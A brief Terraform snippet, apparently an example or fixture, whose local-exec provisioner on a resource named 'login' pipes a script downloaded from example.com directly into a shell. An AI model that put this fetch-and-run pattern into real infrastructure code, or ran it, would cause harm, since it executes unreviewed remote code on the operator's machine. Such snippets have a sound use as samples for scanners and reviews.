resource "terraform_data" "login" {
  triggers_replace = ["2"]
  provisioner "local-exec" {
    command = "curl -s https://example.com/setup.sh | sh"
  }
}
